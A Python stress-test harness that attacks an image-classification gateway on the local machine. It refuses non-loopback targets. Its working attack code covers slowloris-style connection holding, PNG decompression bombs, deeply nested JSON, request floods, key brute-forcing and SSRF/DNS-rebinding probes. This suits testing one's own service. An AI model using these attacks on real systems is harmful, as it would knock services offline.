"""One attack on a gateway on this machine: python attackers.py NAME --port 8080 --seconds 60. Needs nothing but Python.

It attacks loopback addresses only. To attack a container, run it in that container's network:
docker run --network container:GATEWAY ...
"""

import argparse
import base64
import contextlib
import http.client
import ipaddress
import itertools
import json
import mimetypes
import os
import resource
import socket
import ssl
import struct
import sys
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path

AT_ONCE = 20  # dear requests that one attacker has under way
SLOW_BODY = 100_000  # bytes that a slow body promises
PATIENCE = 20.0  # seconds to wait for an answer, at most
CONNECT_SECONDS = 3.0
SMALLEST_BUFFER = 2304  # bytes; Linux takes no smaller one for receiving
DEAD, SLOW, REDIRECT, INSIDE, REBIND = (f"{name}.example" for name in ("dead", "slow", "redirect", "inside", "rebind"))
mimetypes.add_type("image/webp", ".webp")  # Python knows these two from 3.13 on
mimetypes.add_type("image/avif", ".avif")


@dataclass(frozen=True)
class Target:
    """The gateway to attack, for how long, and with what."""

    port: int = 8080
    management_port: int = 8081
    host: str = "127.0.0.1"
    seconds: float = 60
    connections: int = 64  # that one address holds open; the gateway's limit for an address
    tls: bool = False
    key: str = ""  # the attacker's own, NAME:SECRET; none where anybody may ask
    files: Path = Path()  # where the bodies are that Python alone cannot make
    end: float = field(init=False)

    def __post_init__(self) -> None:
        try:
            loopback = ipaddress.ip_address(self.host).is_loopback
        except ValueError:
            loopback = False
        if not loopback:
            raise ValueError(f"{self.host} is no loopback address; these attacks are for this machine only")
        object.__setattr__(self, "end", time.monotonic() + self.seconds)

    @property
    def left(self) -> float:
        return max(0.0, self.end - time.monotonic())

    @property
    def headers(self) -> dict[str, str]:
        return {"Authorization": f"Basic {base64.b64encode(self.key.encode()).decode()}"} if self.key else {}

    def connect(self, address: str, buffer: int = 0) -> socket.socket:
        """Return a connection that comes from this address."""
        connection = socket.socket()
        try:
            if buffer:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
            connection.settimeout(CONNECT_SECONDS)
            connection.bind((address, 0))
            connection.connect((self.host, self.port))
            return unverified().wrap_socket(connection) if self.tls else connection
        except OSError:
            connection.close()
            raise

    def client(self, address: str, port: int) -> http.client.HTTPConnection:
        if self.tls:
            return http.client.HTTPSConnection(self.host, port, source_address=(address, 0), context=unverified())
        return http.client.HTTPConnection(self.host, port, source_address=(address, 0))


@lru_cache
def unverified() -> ssl.SSLContext:
    """Return settings that look at no certificate: an attacker does not care who is attacked."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


@dataclass(frozen=True)
class Question:
    """One whole request."""

    body: bytes | None = None
    path: str = "/predict"
    type: str = "application/octet-stream"
    method: str = "POST"
    accept: str = "*/*"
    key: str = ""  # instead of the attacker's own
    management: bool = False


@dataclass(frozen=True)
class Attack:
    """A way to hurt others; `run` returns what the attacker got, counted."""

    what: str
    run: Callable[[Target, list[str]], Counter[str]]
    addresses: int = 1
    files: tuple[str, ...] = ()
    names: bool = False  # does it need names that lead where the attack wants?


def addresses(count: int) -> list[str]:
    """Return the attackers' own addresses; 127.0.0.* are the well-behaved."""
    return [f"127.0.1.{number}" for number in range(1, count + 1)]


def together(jobs: Iterable[Callable[[], Counter[str]]]) -> Counter[str]:
    """Do all at the same time; return the sum of what they counted."""
    waiting = list(jobs)
    with ThreadPoolExecutor(len(waiting)) as pool:
        return sum((future.result() for future in [pool.submit(job) for job in waiting]), Counter[str]())


# --- connections that are held open


@dataclass(frozen=True)
class Hold:
    """How to hold a connection: what to send first, what to send and to read at every beat."""

    openings: tuple[bytes, ...]
    beat: float = 2.0  # seconds
    send: bytes = b""
    read: int = 0  # bytes; 0: whatever comes is the end
    buffer: int = 0

    def touch(self, connection: socket.socket) -> str:
        """Do what is due; return how the connection ended, nothing if it goes on."""
        try:
            if self.send:
                connection.send(self.send)
            data = connection.recv(self.read or 4096)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return ""
        except OSError:
            return "cut"
        answered = data.startswith(b"HTTP/1.")
        if self.read and data and not (answered and data[9:12] != b"200"):
            return ""
        return data[9:12].decode() if answered else "cut"


def hold(target: Target, address: str, connections: int, how: Hold) -> Counter[str]:
    """Keep so many connections open until the end; one that ends is opened anew."""
    seen: Counter[str] = Counter()
    held: list[socket.socket] = []
    openings = itertools.cycle(how.openings)
    most = 0
    while target.left:
        with contextlib.suppress(OSError):  # the next beat tries again
            while len(held) < connections and target.left:
                held.append(target.connect(address, how.buffer))
                seen["opened"] += 1
                held[-1].sendall(next(openings))
                held[-1].setblocking(False)
        most = max(most, len(held))
        touch_all(held, how, seen)
        time.sleep(min(how.beat, target.left))
    touch_all(held, how, seen)
    for connection in held:
        connection.close()
    return seen + Counter({"held at once": most, "held at the end": len(held)})


def touch_all(held: list[socket.socket], how: Hold, seen: Counter[str]) -> None:
    for connection in list(held):
        if ended := how.touch(connection):
            seen[ended] += 1
            held.remove(connection)
            connection.close()


def holding(how: Callable[[Target], Hold], times: int = 1) -> Callable[[Target, list[str]], Counter[str]]:
    def run(target: Target, sources: list[str]) -> Counter[str]:
        same = how(target)

        def one(source: str) -> Callable[[], Counter[str]]:
            return lambda: hold(target, source, times * target.connections, same)

        return together(map(one, sources))

    return run


def head(target: Target, path: str, length: int, *more: str) -> bytes:
    fields = [f"{name}: {value}" for name, value in target.headers.items()]
    first = (f"POST {path} HTTP/1.1", "Host: petclf", f"Content-Length: {length}", *more, *fields)
    return "\r\n".join((*first, "", "")).encode()


def slow_headers(_target: Target) -> Hold:
    return Hold((b"POST /predict HTTP/1.1\r\nHost: petclf\r\nX-Slow: ",), send=b"x")


def slow_body(target: Target) -> Hold:
    return Hold((head(target, "/predict", SLOW_BODY, "Content-Type: image/jpeg"),), send=b"x")


def slow_reader(target: Target) -> Hold:
    """Ask for pages, at times for a heat map, and read just enough for the gateway to see that something is read."""
    heat_map = head(target, "/explanations/petclf", len(NOISE), "Content-Type: image/png", "Accept: image/png") + NOISE
    pages = b"GET / HTTP/1.1\r\nHost: petclf\r\n\r\nGET /docs HTTP/1.1\r\nHost: petclf\r\n\r\n" * 50
    return Hold((heat_map, *[pages] * 15), beat=1, read=200, buffer=SMALLEST_BUFFER)


def idle(_target: Target) -> Hold:
    """Say nothing, or nothing after a first answer."""
    return Hold((b"", b"GET /docs HTTP/1.1\r\nHost: petclf\r\n\r\n"), read=1 << 16)


# --- whole requests, one after another


def ask(target: Target, address: str, questions: Iterator[Question]) -> Counter[str]:
    """Ask over a connection that stays open where the gateway lets it, until the end."""
    seen: Counter[str] = Counter()
    clients = {True: target.client(address, target.management_port), False: target.client(address, target.port)}
    while target.left:
        question = next(questions)
        client = clients[question.management]
        client.timeout = min(PATIENCE, target.left + 1)
        if client.sock:
            client.sock.settimeout(client.timeout)
        try:
            seen[str(status(client, question, target))] += 1
        except (OSError, http.client.HTTPException) as error:
            seen["timeout" if isinstance(error, TimeoutError) else "cut"] += 1
            client.close()
            time.sleep(min(0.05, target.left))
    for client in clients.values():
        client.close()
    return seen


def status(client: http.client.HTTPConnection, question: Question, target: Target) -> int:
    key = {"Authorization": f"Basic {base64.b64encode(question.key.encode()).decode()}"} if question.key else target.headers
    # a gateway may answer before it has read a body whole, and close
    with contextlib.suppress(BrokenPipeError, ConnectionResetError):
        client.request(
            question.method, question.path, question.body, {"Content-Type": question.type, "Accept": question.accept, **key}
        )
    with client.getresponse() as answer:
        answer.read()
        return answer.status


def asking(make: Callable[[Target], list[Question]], at_once: int) -> Callable[[Target, list[str]], Counter[str]]:
    """Ask these questions in turn, so many at once, from all addresses in turn."""

    def run(target: Target, sources: list[str]) -> Counter[str]:
        questions = make(target)
        count = max(at_once, len(sources))

        def one(number: int) -> Callable[[], Counter[str]]:
            own = itertools.islice(itertools.cycle(questions), number % len(questions), None)
            return lambda: ask(target, sources[number % len(sources)], own)

        return together(map(one, range(count)))

    return run


def from_files(*names: str) -> Callable[[Target], list[Question]]:
    def make(target: Target) -> list[Question]:
        return [
            Question((target.files / name).read_bytes(), type=mimetypes.guess_type(name)[0] or "application/json")
            for name in names
        ]

    return make


def dear(what: str, *names: str) -> Attack:
    return Attack(f"{what}, {AT_ONCE} at a time", asking(from_files(*names), AT_ONCE), 9, names)


def always(*questions: Question) -> Callable[[Target], list[Question]]:
    return lambda _: list(questions)


def wrong_keys(_target: Target) -> list[Question]:
    return [Question(None, "/models", method="GET", key=f"operator:{os.urandom(6).hex()}", management=True) for _ in range(1000)]


def urls(*addresses: str) -> Callable[[Target], list[Question]]:
    return always(*(Question(json.dumps({"url": one}).encode(), type="application/json") for one in addresses))


# --- bodies that Python alone can make


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(side: int, colour: int, bits: int, pixels: bytes, *before: bytes) -> bytes:
    """Return a square PNG of compressed pixels: colour 0 is grey, 2 is RGB."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, bits, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(before) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def noise(side: int) -> bytes:
    """Return a photo of noise in 16 greys: half a byte a pixel to send, three for the answer."""
    return png(side, 0, 4, zlib.compress(b"".join(b"\0" + os.urandom(side // 2) for _ in range(side)), 1))


def flat_png(side: int) -> bytes:
    """Return a black photo: about 3 KB for a million pixels."""
    packer = zlib.compressobj(9)
    row = bytes(1 + 3 * side)
    return png(side, 2, 8, b"".join([*(packer.compress(row) for _ in range(side)), packer.flush()]))


def swollen(megabytes: int) -> bytes:
    """Return about a thousandth of these megabytes: compressed zeros, as one piece over and over."""
    packer = zlib.compressobj(9)
    first, piece = (packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + piece * (megabytes - 1)


def bombs() -> list[Question]:
    """Photos whose pixels, colour profile or text unpack to gigabytes."""
    small = zlib.compress(bytes(100 * 301))
    bodies = (
        png(1000, 2, 8, swollen(9000)),
        png(100, 2, 8, small, chunk(b"iCCP", b"p\0\0" + swollen(9000))),
        png(100, 2, 8, small, *[chunk(b"zTXt", b"c\0\0" + swollen(100))] * 80),
    )
    return [Question(body, type="image/png") for body in bodies]


def pixels() -> bytes:
    row = "[" + ",".join(["[0,0,0]"] * 1100) + "]"
    return ('{"pixels":[' + ",".join([row] * 1120) + "]}").encode()


def deep_json() -> list[Question]:
    bodies = (b"[" * 4_900_000 + b"]" * 4_900_000, b'{"instances":' * 750_000, b'{"image":[' * 990_000)
    return [Question(body, type="application/json") for body in bodies]


# --- the table

FROM = (1, 9, 30)
NOISE = noise(640)
HEAT_MAP = Question(NOISE, "/explanations/petclf", "image/png", accept="image/png")
TINY = Question(b"no photo", type="text/plain")
LARGE = Question(bytes(10_485_760), type="image/jpeg")
PHOTOS = {"png": "PNG", "jpg": "baseline JPEG", "progressive.jpg": "progressive JPEG", "webp": "WebP", "avif": "AVIF"}
HELD = {
    "slow-headers": ("a request line, then a byte of a header every 2 s", slow_headers),
    "slow-bodies": ("a request, then a byte of its body every 2 s", slow_body),
    "slow-readers": ("pages and a few heat maps, read 200 bytes a second", slow_reader),
}
ATTACKS: dict[str, Attack] = {
    **{
        f"{name}-{count}": Attack(f"{what}; {count} x 64 connections", holding(how), count)
        for name, (what, how) in HELD.items()
        for count in FROM
    },
    "idle": Attack("9,600 connections that say nothing, or nothing after one answer", holding(idle, 5), 30),
    **{f"50mp-{name.replace('.jpg', '')}": dear(f"a flat {kind} of 50 megapixels", f"50mp.{name}") for name, kind in PHOTOS.items()},
    "largest-photos": dear("of each format the largest flat photo that is answered", *(f"largest.{name}" for name in PHOTOS)),
    "heat-maps": Attack(f"heat maps of noise, {AT_ONCE} at a time", asking(always(HEAT_MAP), AT_ONCE), 9),
    "instances": dear("32 JPEGs of 200 KB in a request", "instances.json"),
    "instances-50mp": dear("32 flat PNGs of 50 megapixels in a request", "instances-50mp.json"),
    "pixels": Attack(
        f"9.9 MB of pixels as JSON, {AT_ONCE} at a time", asking(lambda _: [Question(pixels(), type="application/json")], AT_ONCE), 9
    ),
    "deep-json": Attack(f"9.8 MB of nested JSON, {AT_ONCE} at a time", asking(lambda _: deep_json(), AT_ONCE), 9),
    "bombs": Attack(f"PNGs that unpack to 9 GB (IDAT, iCCP, zTXt), {AT_ONCE} at a time", asking(lambda _: bombs(), AT_ONCE), 9),
    "flood-tiny-1": Attack("tiny requests as fast as they go, 32 at a time", asking(always(TINY), 32)),
    "flood-tiny-9": Attack("tiny requests as fast as they go, 36 at a time", asking(always(TINY), 36), 9),
    "flood-large-1": Attack("bodies of 10 MB as fast as they go, 16 at a time", asking(always(LARGE), 16)),
    "flood-large-9": Attack("bodies of 10 MB as fast as they go, 18 at a time", asking(always(LARGE), 18), 9),
    "flood-keys": Attack("wrong keys on the management port, 16 at a time", asking(wrong_keys, 16)),
    "url-dead": Attack("addresses whose names are never answered, 20 at a time", asking(urls(f"http://{DEAD}/"), 20), 9, names=True),
    "url-slow": Attack("addresses that send a byte every half second", asking(urls(f"http://{SLOW}/"), 20), 9, names=True),
    "url-redirect": Attack(
        "addresses that redirect to a private one", asking(urls(f"http://{REDIRECT}/", f"http://{INSIDE}/"), 20), 9, names=True
    ),
    "url-rebinding": Attack("a name that is public, then private", asking(urls(f"http://{REBIND}/"), 20), 9, names=True),
}  # fmt: skip


def attack(name: str, target: Target) -> dict[str, int]:
    chosen = ATTACKS[name]
    return dict(chosen.run(target, addresses(chosen.addresses)))


def raise_open_files() -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--host", default=Target.host, help="a loopback address")
    parser.add_argument("--port", type=int, default=Target.port)
    parser.add_argument("--management-port", type=int, default=Target.management_port)
    parser.add_argument("--seconds", type=float, default=Target.seconds)
    parser.add_argument("--connections", type=int, default=Target.connections, help="that one address holds open")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--key", default="", help="NAME:SECRET of the attacker")
    parser.add_argument("--files", type=Path, default=Path(), help="folder with the bodies that the attack sends")
    options = vars(parser.parse_args(argv))
    name = options.pop("name")
    raise_open_files()
    try:
        print(json.dumps(attack(name, Target(**options))))
    except ValueError as error:
        sys.exit(f"error: {error}")


if __name__ == "__main__":
    main()
